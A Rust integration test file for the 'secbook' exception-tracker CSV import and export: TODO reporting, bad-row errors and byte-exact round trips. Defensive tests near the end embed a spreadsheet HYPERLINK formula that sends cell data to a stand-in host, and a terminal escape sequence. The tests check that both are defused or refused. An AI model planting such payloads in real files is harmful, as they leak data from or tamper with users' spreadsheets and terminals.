//! The exception tracker CSV (SPEC 10) through the built binary: import with every
//! assumption reported, bad rows reported together with nothing written, the export in the
//! built site, and an export → import → export round trip that keeps every byte.

use std::fs;
use std::path::{Path, PathBuf};

use crate::common::{assert_code, secbook, stderr};
use tempfile::TempDir;

const ROOT: &str = env!("CARGO_MANIFEST_DIR");
const HEADER: &str = "Priority, Status, Decision date, Type of request, Description, Risk Owner, Risk Approvers, Exception Link, Notes";

fn path(dir: &Path) -> &str {
    dir.to_str().expect("a UTF-8 temporary path")
}

/// A handbook with data/people.yaml and one exception already, EXC-007.
fn handbook(tmp: &TempDir) -> PathBuf {
    let dir = tmp.path().join("hb");
    fs::create_dir_all(dir.join("data/exceptions")).unwrap();
    fs::write(
        dir.join("handbook.yaml"),
        "title: Import\nas_of: 2026-06-30\n",
    )
    .unwrap();
    fs::write(
        dir.join("data/people.yaml"),
        "- {name: Helen Brooks, email: helen.brooks@example.com, side: business, level: vp}\n\
         - {name: Martin Feld, email: martin.feld@example.com, side: business, level: director}\n\
         - {name: Elena Petrova, email: elena.petrova@example.com, side: security, level: director}\n\
         - {name: Sam Hollis, email: sam.hollis@example.com}\n",
    )
    .unwrap();
    fs::write(
        dir.join("data/exceptions/EXC-007.yaml"),
        "id: EXC-007\ntitle: t\ntype: acceptance\nseverity: low\nstatus: pending\n\
         requested_by: A\nrisk_owner: B\ncreated: 2026-01-01\nsummary: s\njustification: j\n",
    )
    .unwrap();
    dir
}

fn exception_files(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(dir.join("data/exceptions"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[test]
fn import_writes_a_record_per_row_and_reports_every_assumption() {
    let tmp = TempDir::new().unwrap();
    let dir = handbook(&tmp);
    let csv = "tests/data/tracker/tracker.csv";
    let out = secbook(Path::new(ROOT), &["import", "tracker", csv, path(&dir)]);
    assert_code(&out, 0);
    assert_eq!(
        stderr(&out),
        "\
row 2 (EXC-008): requested_by set to TODO: the tracker does not record who asked
row 2 (EXC-008): risk_owner: email of Helen Brooks taken from data/people.yaml
row 2 (EXC-008): created set to the decision date 1/15/2026
row 2 (EXC-008): expires set to TODO: the tracker does not record when an approved exception ends
row 2 (EXC-008): justification set to TODO: the tracker does not record it
row 2 (EXC-008): remediation_plan set to TODO: an extension needs one and the tracker does not record it
row 2 (EXC-008): approval by Martin Feld recorded as approved on the decision date 1/15/2026, with role `Risk approver`
row 2 (EXC-008): approval by Martin Feld: side and level left to data/people.yaml
row 2 (EXC-008): approval by Elena Petrova recorded as approved on the decision date 1/15/2026, with role `Risk approver`
row 2 (EXC-008): approval by Elena Petrova: side and level left to data/people.yaml
row 3 (EXC-009): requested_by set to TODO: the tracker does not record who asked
row 3 (EXC-009): created set to TODO: the row has no decision date
row 3 (EXC-009): justification set to TODO: the tracker does not record it
row 4 (EXC-010): requested_by set to TODO: the tracker does not record who asked
row 4 (EXC-010): created set to the decision date 03/02/2026
row 4 (EXC-010): justification set to TODO: the tracker does not record it
row 4 (EXC-010): remediation_plan set to TODO: an extension needs one and the tracker does not record it
row 4 (EXC-010): approval by Priya Shah recorded as approved on the decision date 03/02/2026, with role `Risk approver`
row 4 (EXC-010): approval by Priya Shah: side and level set to TODO: data/people.yaml does not list Priya Shah
row 5 (EXC-011): requested_by set to TODO: the tracker does not record who asked
row 5 (EXC-011): risk_owner: email of Helen Brooks taken from data/people.yaml
row 5 (EXC-011): created set to the decision date 2/28/2026
row 5 (EXC-011): closed set to TODO: the status is Withdrawn and the tracker does not record since when
row 5 (EXC-011): summary set to TODO: the Description column is empty
row 5 (EXC-011): justification set to TODO: the tracker does not record it
row 5 (EXC-011): approval by Sam Hollis recorded as approved on the decision date 2/28/2026, with role `Risk approver`
row 5 (EXC-011): approval by Sam Hollis: side and level set to TODO: data/people.yaml does not give it for Sam Hollis
row 5 (EXC-011): approval by Martin Feld recorded as approved on the decision date 2/28/2026, with role `Risk approver`
row 5 (EXC-011): approval by Martin Feld: side and level left to data/people.yaml
imported 4 exception(s) from tests/data/tracker/tracker.csv as data/exceptions/EXC-008.yaml to data/exceptions/EXC-011.yaml; 18 TODO marker(s) to replace: `secbook check` lists them
"
    );
    assert_eq!(
        exception_files(&dir),
        [
            "EXC-007.yaml",
            "EXC-008.yaml",
            "EXC-009.yaml",
            "EXC-010.yaml",
            "EXC-011.yaml"
        ]
    );
    let read =
        |id: &str| fs::read_to_string(dir.join(format!("data/exceptions/{id}.yaml"))).unwrap();

    // A quoted description with a comma, approvers joined with "and", found in people.yaml.
    assert_eq!(
        read("EXC-008"),
        "\
# Imported from tests/data/tracker/tracker.csv row 2 by `secbook import tracker`.
# Replace every TODO marker: `secbook check` lists those left.
id: EXC-008
title: VPN firmware upgrade delayed past the remediation window
type: extension
severity: high
status: approved
requested_by: 'TODO: Name <email> of who asked'
risk_owner: Helen Brooks <helen.brooks@example.com>
created: 2026-01-15
decided: 2026-01-15
expires: 'TODO: the fix-by date (extension) or end of acceptance, YYYY-MM-DD'
tickets:
- SEC-2001
summary: VPN concentrators run firmware with a known, exploitable flaw.
justification: 'TODO: why the exception is needed'
remediation_plan: 'TODO: the path to the fix'
approvals:
- name: Martin Feld
  role: Risk approver
  decision: approved
  date: 2026-01-15
- name: Elena Petrova
  role: Risk approver
  decision: approved
  date: 2026-01-15
"
    );
    // No decision date: created is a TODO, and nothing is decided.
    assert_eq!(
        read("EXC-009"),
        "\
# Imported from tests/data/tracker/tracker.csv row 3 by `secbook import tracker`.
# Replace every TODO marker: `secbook check` lists those left.
id: EXC-009
title: Deprecated analytics script on the marketing site
type: acceptance
severity: low
status: pending
requested_by: 'TODO: Name <email> of who asked'
risk_owner: Dana Ortiz
created: 'TODO: the date the request was filed, YYYY-MM-DD'
summary: The marketing site loads a deprecated analytics script.
justification: 'TODO: why the exception is needed'
"
    );
    // Lower case values, a zero-padded date, a quoted title with a comma.
    let denied = read("EXC-010");
    for line in [
        "title: Payroll export, clear-text identifiers\n",
        "type: extension\nseverity: critical\nstatus: denied\n",
        "created: 2026-03-02\ndecided: 2026-03-02\n",
        "tickets:\n- https://tickets.example.com/SEC-2010\n",
        "  side: 'TODO: business or security'\n",
    ] {
        assert!(denied.contains(line), "{line}in\n{denied}");
    }
    // Quotes doubled inside a quoted field.
    assert!(
        read("EXC-011")
            .contains("\ntitle: Old build agents run an unsupported OS, \"temporarily\"\n")
    );

    // `check` reports exactly the TODO markers, and passes once they are filled.
    let out = secbook(&dir, &["check"]);
    assert_code(&out, 1);
    let report = stderr(&out);
    let errors: Vec<&str> = report.lines().filter(|l| l.starts_with("error")).collect();
    assert_eq!(errors.len(), 18, "{report}");
    assert!(
        errors
            .iter()
            .all(|l| l.ends_with("still has a TODO marker")),
        "{report}"
    );
    for id in ["EXC-008", "EXC-009", "EXC-010", "EXC-011"] {
        let file = dir.join(format!("data/exceptions/{id}.yaml"));
        let text = fs::read_to_string(&file).unwrap();
        fs::write(&file, fill(&text)).unwrap();
    }
    assert_code(&secbook(&dir, &["check"]), 0);
}

/// Replaces each TODO marker of an imported record with a value that passes `check`.
fn fill(text: &str) -> String {
    let mut out = String::new();
    for line in text.lines() {
        let Some((key, _)) = line.split_once(": 'TODO") else {
            out.push_str(line);
            out.push('\n');
            continue;
        };
        let name = key.trim().trim_start_matches("- ");
        let value = match name {
            "requested_by" => "Ann Lee <ann@example.com>",
            "created" | "date" => "2020-01-01",
            "decided" | "expires" | "closed" => "2030-01-01",
            "side" => "security",
            "level" => "executive",
            "title" | "summary" | "justification" | "remediation_plan" => "Filled in.",
            other => panic!("no value for the TODO of `{other}`"),
        };
        out.push_str(&format!("{key}: {value}\n"));
    }
    out
}

#[test]
fn bad_rows_are_reported_together_and_nothing_is_written() {
    let tmp = TempDir::new().unwrap();
    let dir = handbook(&tmp);
    let out = secbook(
        Path::new(ROOT),
        &[
            "import",
            "tracker",
            "tests/data/tracker/bad.csv",
            path(&dir),
        ],
    );
    assert_code(&out, 1);
    assert_eq!(
        stderr(&out),
        r#"error: invalid decision date `2026-02-30`
  ┌─ tests/data/tracker/bad.csv:3:15
  │
3 │ Low, Pending, 2026-02-30, Accept risk without fix, Deprecated script., Dana Ortiz, ,…
  │               ^^^^^^^^^^
  │
  = help: write a real date as M/D/YYYY, such as 1/15/2026

error: unknown priority `Urgent`
  ┌─ tests/data/tracker/bad.csv:4:1
  │
4 │ Urgent, Approved, 13/1/2026, Risk waiver, Something., Helen Brooks…
  │ ^^^^^^
  │
  = help: expected one of `Critical`, `High`, `Medium`, `Low`

error: invalid decision date `13/1/2026`
  ┌─ tests/data/tracker/bad.csv:4:19
  │
4 │ Urgent, Approved, 13/1/2026, Risk waiver, Something., Helen Brooks, , , Unknown words
  │                   ^^^^^^^^^
  │
  = help: write a real date as M/D/YYYY, such as 1/15/2026

error: unknown type of request `Risk waiver`
  ┌─ tests/data/tracker/bad.csv:4:30
  │
4 │ Urgent, Approved, 13/1/2026, Risk waiver, Something., Helen Brooks, , , Unknown words
  │                              ^^^^^^^^^^^
  │
  = help: expected one of `Risk extension`, `Accept risk without fix`

error: this row has 10 columns; the tracker has 9
  ┌─ tests/data/tracker/bad.csv:5:1
  │
5 │ Medium, Closed, 2/1/2026, Risk extension, Unquoted, comma, Helen Brooks, , , Too many columns
  │ ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
  │
  = help: quote a value that holds a comma: "Servers, databases"

5 error(s), 0 warning(s)
"#
    );
    // The good row 2 is not written either.
    assert_eq!(exception_files(&dir), ["EXC-007.yaml"]);

    let out = secbook(
        Path::new(ROOT),
        &[
            "import",
            "tracker",
            "tests/data/tracker/bad-header.csv",
            path(&dir),
        ],
    );
    assert_code(&out, 1);
    let report = stderr(&out);
    assert!(
        report.starts_with(
            "error: the header does not match the tracker's: column 3 is `Decision Date`, not `Decision date`\n  ┌─ tests/data/tracker/bad-header.csv:1:19\n"
        ),
        "{report}"
    );
    assert_eq!(exception_files(&dir), ["EXC-007.yaml"]);

    // A file that cannot be read, or a folder that is not a handbook: exit 2.
    let out = secbook(
        Path::new(ROOT),
        &[
            "import",
            "tracker",
            "tests/data/tracker/missing.csv",
            path(&dir),
        ],
    );
    assert_code(&out, 2);
    let out = secbook(
        Path::new(ROOT),
        &[
            "import",
            "tracker",
            "tests/data/tracker/tracker.csv",
            path(tmp.path()),
        ],
    );
    assert_code(&out, 2);
}

#[test]
fn export_import_export_keeps_every_byte() {
    let tmp = TempDir::new().unwrap();
    let site = tmp.path().join("site");
    assert_code(&secbook(tmp.path(), &["init", "site"]), 0);

    let first = tmp.path().join("first.csv");
    let out = secbook(
        tmp.path(),
        &["export", "tracker", "site", "-o", path(&first)],
    );
    assert_code(&out, 0);
    let exported = fs::read_to_string(&first).unwrap();
    let lines: Vec<&str> = exported.lines().collect();
    assert_eq!(lines[0], HEADER);
    assert_eq!(lines.len(), 25, "the header and the 24 starter exceptions");
    // The common form: a space after each comma, quotes only where a value holds a comma.
    assert_eq!(
        lines[1],
        "High, Approved, 1/20/2025, Risk extension, \"The FinanceOne ERP application servers run a release that is three quarterly patch sets behind. Two of the missing patches fix remotely exploitable flaws that have public exploit code. The servers hold the general ledger, supplier bank details and payroll cost data. An attacker who exploits them could read or change financial records, which would put the accuracy of our reporting at risk and expose supplier and employee data.\", Helen Brooks, Martin Feld and Elena Petrova, SEC-1012, Unpatched legacy ERP application servers expose finance data to known exploits"
    );

    // The standard output and the built site hold the same bytes.
    let out = secbook(tmp.path(), &["export", "tracker", "site"]);
    assert_code(&out, 0);
    assert_eq!(String::from_utf8_lossy(&out.stdout), exported);
    assert_code(&secbook(tmp.path(), &["build", "site"]), 0);
    assert_eq!(
        fs::read_to_string(site.join("public/exports/exceptions.csv")).unwrap(),
        exported
    );

    // Into an empty handbook, TODOs filled, then out again.
    let empty = tmp.path().join("empty");
    fs::create_dir(&empty).unwrap();
    fs::write(
        empty.join("handbook.yaml"),
        "title: Empty\nas_of: 2026-06-30\n",
    )
    .unwrap();
    let out = secbook(tmp.path(), &["import", "tracker", path(&first), "empty"]);
    assert_code(&out, 0);
    assert_eq!(exception_files(&empty).len(), 24);
    assert_code(&secbook(tmp.path(), &["check", "empty"]), 1);
    for name in exception_files(&empty) {
        let file = empty.join("data/exceptions").join(name);
        let text = fs::read_to_string(&file).unwrap();
        fs::write(&file, fill(&text)).unwrap();
    }
    assert_code(&secbook(tmp.path(), &["check", "empty"]), 0);
    let out = secbook(tmp.path(), &["export", "tracker", "empty"]);
    assert_code(&out, 0);
    assert_eq!(String::from_utf8_lossy(&out.stdout), exported);
}

#[test]
fn a_built_site_holds_the_tracker_even_with_no_exception() {
    let tmp = TempDir::new().unwrap();
    fs::write(tmp.path().join("handbook.yaml"), "title: Bare\n").unwrap();
    assert_code(&secbook(tmp.path(), &["build"]), 0);
    assert_eq!(
        fs::read_to_string(tmp.path().join("public/exports/exceptions.csv")).unwrap(),
        format!("{HEADER}\n")
    );
}

/// A value that starts like a formula (`=`, `+`, `-`, `@`) would run when the export is
/// opened in a spreadsheet; the export writes it after an apostrophe, which the import takes
/// off again, so the round trip still keeps every byte.
#[test]
fn formulas_are_defused_on_export_and_restored_on_import() {
    let tmp = TempDir::new().unwrap();
    let dir = tmp.path().join("hb");
    fs::create_dir_all(dir.join("data/exceptions")).unwrap();
    fs::write(
        dir.join("handbook.yaml"),
        "title: Formulas\nas_of: 2026-06-30\n",
    )
    .unwrap();
    fs::write(
        dir.join("data/exceptions/EXC-001.yaml"),
        r#"id: EXC-001
title: "=HYPERLINK(\"http://x.example/?\"&A1, \"Click\")"
type: acceptance
severity: low
status: approved
requested_by: Ann Lee <ann@example.com>
risk_owner: "@Ops Lead"
created: 2026-01-01
decided: 2026-01-02
expires: 2026-12-01
tickets: ["+SEC-1"]
summary: "-2+3 is not a formula here"
justification: j
approvals:
  - {name: "'=Bob", role: CISO, side: security, level: executive, decision: approved, date: 2026-01-02}
"#,
    )
    .unwrap();
    let out = secbook(tmp.path(), &["export", "tracker", "hb"]);
    assert_code(&out, 0);
    let exported = String::from_utf8_lossy(&out.stdout).into_owned();
    assert_eq!(
        exported.lines().nth(1).unwrap(),
        "Low, Approved, 1/2/2026, Accept risk without fix, '-2+3 is not a formula here, \
         '@Ops Lead, ''=Bob, '+SEC-1, \"'=HYPERLINK(\"\"http://x.example/?\"\"&A1, \"\"Click\"\")\""
    );

    let empty = tmp.path().join("empty");
    fs::create_dir(&empty).unwrap();
    fs::write(
        empty.join("handbook.yaml"),
        "title: Empty\nas_of: 2026-06-30\n",
    )
    .unwrap();
    let csv = tmp.path().join("export.csv");
    fs::write(&csv, &exported).unwrap();
    assert_code(
        &secbook(tmp.path(), &["import", "tracker", path(&csv), "empty"]),
        0,
    );
    let file = empty.join("data/exceptions/EXC-001.yaml");
    let record = fill(&fs::read_to_string(&file).unwrap());
    assert!(record.contains("=HYPERLINK"), "{record}");
    assert!(!record.contains("'=HYPERLINK"), "{record}");
    fs::write(&file, record).unwrap();
    let out = secbook(tmp.path(), &["export", "tracker", "empty"]);
    assert_code(&out, 0);
    assert_eq!(String::from_utf8_lossy(&out.stdout), exported);
}

/// A control character in a cell would make a record that `check` refuses (and a terminal
/// runs): import refuses it at the cell, and shows it escaped.
#[test]
fn control_characters_in_a_cell_are_refused_at_the_cell() {
    let tmp = TempDir::new().unwrap();
    let dir = handbook(&tmp);
    let csv = tmp.path().join("escape.csv");
    fs::write(
        &csv,
        format!("{HEADER}\nHigh, Pending, , Risk extension, Retitled\u{1b}]0;pwned\u{7}, Helen Brooks, , , n\n"),
    )
    .unwrap();
    let out = secbook(tmp.path(), &["import", "tracker", path(&csv), path(&dir)]);
    assert_code(&out, 1);
    let err = stderr(&out);
    assert!(
        err.contains("control character U+001B is not allowed in a record"),
        "{err}"
    );
    assert!(err.contains("escape.csv:2:"), "{err}");
    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}'), "{err:?}");
    assert_eq!(exception_files(&dir), ["EXC-007.yaml"]);
}
